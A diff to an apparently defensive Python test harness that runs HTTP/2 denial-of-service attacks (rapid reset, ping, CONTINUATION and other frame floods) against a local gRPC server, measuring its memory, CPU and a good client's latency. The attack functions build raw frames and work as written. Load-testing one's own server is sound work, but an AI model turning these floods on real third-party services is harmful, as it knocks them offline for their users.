@@ -6,7 +6,9 @@ It starts ``python -m conveyor_server_min --token s3cret`` on a free port (defau
 well-behaved client in a child process (its own source address, 127.0.0.2, so per-client caps on
 the attacker do not apply to it) that makes one gRPC GetTask call every 10 ms on one HTTP/2
 connection. Each attack runs for at most ``--seconds`` (and a bounded number of connections and
-bytes) from 127.0.0.1; then every attack socket is closed. For each attack it prints the server's
+bytes) from 127.0.0.1, at a lower CPU priority (nice 10) than the server and the good client, as
+if it came from another machine; then every attack socket is closed and the attack starts over
+with new connections until its time is up. For each attack it prints the server's
 RSS before, at its peak during the attack and ``--settle`` seconds after, and the good client's
 p50/p99/max latency and failed calls during the attack.
 
@@ -55,6 +57,12 @@ def rss_mib(pid: int) -> float:
         if line.startswith("VmRSS:"):
             return int(line.split()[1]) / 1024
     return float("nan")
+
+
+def cpu_seconds(pid: int) -> float:
+    """utime + stime of a process, in seconds."""
+    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
+    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
 
 
 def _headers(host: str, path: str, *, auth: bool = True) -> list[tuple[str, str]]:
@@ -140,20 +148,18 @@ def _close_all(writers: list[asyncio.StreamWriter]) -> None:
 
 async def rapid_reset(port: int, seconds: float) -> str:
     """One connection at a time: HEADERS + RST_STREAM pairs as fast as possible (reconnects when closed)."""
-    deadline, sent, conns = time.monotonic() + seconds, 0, 0
+    block = h2.connection.H2Connection().encoder.encode(_headers("x", SESSION))
+    deadline, sent, conns, sid = time.monotonic() + seconds, 0, 0, 1
     while time.monotonic() < deadline:
         reader, writer = await _connect(port)
-        conns += 1
+        conns, sid = conns + 1, 1
         closed = asyncio.ensure_future(_until_closed(reader))
-        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-        conn.initiate_connection()
-        conn.data_to_send()
         while not closed.done() and time.monotonic() < deadline:
+            batch = bytearray()
             for _ in range(100):
-                sid = conn.get_next_available_stream_id()
-                conn.send_headers(sid, _headers("x", SESSION))
-                conn.reset_stream(sid, 8)
-            writer.write(conn.data_to_send())
+                batch += _frame(0x1, 0x4, sid, block) + _frame(0x3, 0, sid, (8).to_bytes(4, "big"))
+                sid += 2
+            writer.write(batch)
             sent += 100
             with contextlib.suppress(ConnectionError):
                 await writer.drain()
@@ -161,6 +167,10 @@ async def rapid_reset(port: int, seconds: float) -> str:
         _close_all([writer])
         closed.cancel()
     return f"{sent} streams reset over {conns} connection(s)"
+
+
+def _frame(kind: int, flags: int, sid: int, payload: bytes) -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + sid.to_bytes(4, "big") + payload
 
 
 async def _flood(port: int, seconds: float, opening: bytes, unit: bytes, name: str) -> str:
@@ -175,6 +185,7 @@ async def _flood(port: int, seconds: float, opening: bytes, unit: bytes, name: s
         with contextlib.suppress(ConnectionError, TimeoutError):
             async with asyncio.timeout(max(0.01, deadline - time.monotonic())):
                 await writer.drain()
+        await asyncio.sleep(0)  # let the reader notice a close
     state = "closed by server" if closed.done() else "still open"
     _close_all([writer])
     closed.cancel()
@@ -188,12 +199,13 @@ async def ping_flood(port: int, seconds: float) -> str:
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
     writer.write(PREFACE + SETTINGS)
     deadline, sent, burst = time.monotonic() + seconds, 0, PING * 4096
-    while time.monotonic() < deadline:
+    while time.monotonic() < deadline and not writer.transport.is_closing():
         writer.write(burst)
         sent += len(burst)
         with contextlib.suppress(ConnectionError, TimeoutError):
             async with asyncio.timeout(max(0.01, deadline - time.monotonic())):
                 await writer.drain()
+        await asyncio.sleep(0)
     _close_all([writer])
     return f"{sent // len(PING):,} pings sent (the server stops reading once its replies back up)"
 
@@ -206,15 +218,13 @@ async def empty_data(port: int, seconds: float) -> str:
 
 async def continuation(port: int, seconds: float) -> str:
     fragment = b"\x00" * 16_000
-    cont = len(fragment).to_bytes(3, "big") + b"\x09\x00" + (1).to_bytes(4, "big") + fragment
+    cont = _frame(0x9, 0, 1, fragment)
     return await _flood(port, seconds, _headers_frame(1, end_headers=False), cont, "CONTINUATION frames")
 
 
 def _headers_frame(sid: int, *, end_headers: bool) -> bytes:
-    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-    block = conn.encoder.encode(_headers("x", SESSION))
-    flags = 0x4 if end_headers else 0
-    return len(block).to_bytes(3, "big") + bytes([0x1, flags]) + sid.to_bytes(4, "big") + block
+    block = h2.connection.H2Connection().encoder.encode(_headers("x", SESSION))
+    return _frame(0x1, 0x4 if end_headers else 0, sid, block)
 
 
 async def big_frames(port: int, seconds: float) -> str:
@@ -248,6 +258,7 @@ async def _many(  # noqa: PLR0917  # internal helper; each call site names what 
             with contextlib.suppress(ConnectionError, TimeoutError):
                 async with asyncio.timeout(max(0.01, deadline - time.monotonic())):
                     await writer.drain()
+            await asyncio.sleep(0)  # let the reader notice a close
         with contextlib.suppress(TimeoutError):
             await asyncio.wait_for(asyncio.shield(closed), max(0.01, deadline - time.monotonic()))
         return closed.done()
@@ -329,6 +340,15 @@ ATTACKS: dict[str, Callable[[int, float], Awaitable[str]]] = {
 
 
 # ---- driver ------------------------------------------------------------------------------------
+async def _repeat(attack: Callable[[int, float], Awaitable[str]], port: int, seconds: float) -> str:
+    """Run ``attack`` again (a fresh round, new connections) until ``seconds`` are used up."""
+    deadline = time.monotonic() + seconds
+    notes: list[str] = []
+    while (left := deadline - time.monotonic()) > 0.05:
+        notes.append(await attack(port, left))
+    return f"{notes[0]} (+{len(notes) - 1} more rounds)" if len(notes) > 1 else notes[0]
+
+
 def run_attack(name: str, pid: int, port: int, good: GoodClient, args: argparse.Namespace) -> list[str]:
     before = rss_mib(pid)
     peak = [before]
@@ -340,9 +360,9 @@ def run_attack(name: str, pid: int, port: int, good: GoodClient, args: argparse.
 
     sampler = threading.Thread(target=sample, daemon=True)
     sampler.start()
-    start = time.time()
-    note = asyncio.run(ATTACKS[name](port, args.seconds))
-    end = time.time()
+    start, cpu0 = time.time(), cpu_seconds(pid)
+    note = asyncio.run(_repeat(ATTACKS[name], port, args.seconds))
+    end, cpu = time.time(), cpu_seconds(pid) - cpu0
     stop.set()
     sampler.join()
     time.sleep(args.settle)  # let the server settle; RSS is read once afterwards
@@ -361,6 +381,7 @@ def run_attack(name: str, pid: int, port: int, good: GoodClient, args: argparse.
         f"{p99:.1f}",
         f"{lat[-1]:.1f}",
         f"{len(calls)}/{failed}",
+        f"{cpu:.2f}",
         note,
     ]
 
@@ -370,6 +391,12 @@ def main() -> int:
     parser.add_argument("--seconds", type=float, default=3.0, help="length of each attack")
     parser.add_argument("--settle", type=float, default=5.0, help="wait before the 'after' RSS")
     parser.add_argument("--only", nargs="*", choices=sorted(ATTACKS), help="run only these attacks")
+    parser.add_argument(
+        "--server-arg",
+        action="append",
+        default=[],
+        help="extra server flag, e.g. --server-arg=--header-timeout=2s",
+    )
     parser.add_argument("--good-client", help=argparse.SUPPRESS)
     args = parser.parse_args()
     if args.good_client:
@@ -377,12 +404,13 @@ def main() -> int:
         with contextlib.suppress(KeyboardInterrupt, BrokenPipeError, ConnectionError):
             good_client(host, int(port), 0.01)
         return 0
-    server = ServerProcess(["--token", TOKEN])
+    server = ServerProcess(["--token", TOKEN, *args.server_arg])
     server.start()
     assert server.proc is not None
     host, port = server.address.rsplit(":", 1)
     good = GoodClient(host, int(port))
-    rows = [["attack", "RSS0", "peak", "after", "Δ", "p50ms", "p99ms", "max", "calls/fail", "note"]]
+    os.nice(10)  # the attacks run here: in real life they come from another machine, so give way
+    rows = [["attack", "RSS0", "peak", "after", "Δ", "p50ms", "p99ms", "max", "calls/fail", "srvCPU", "note"]]
     try:
         time.sleep(1.0)  # warm-up: the good client's first calls
         for name in args.only or ATTACKS:
@@ -394,9 +422,7 @@ def main() -> int:
     widths = [max(len(r[i]) for r in rows) for i in range(len(rows[0]) - 1)]
     for row in rows:
         print("  ".join(cell.rjust(w) for cell, w in zip(row, widths, strict=False)) + "  " + row[-1])
-    print(
-        f"server pid {server.proc.pid} exit code {code}; python {sys.version.split()[0]}; cores {os.cpu_count()}"
-    )
+    print(f"server exit code {code}; python {sys.version.split()[0]}; cores {os.cpu_count()}")
     return 0
 
 
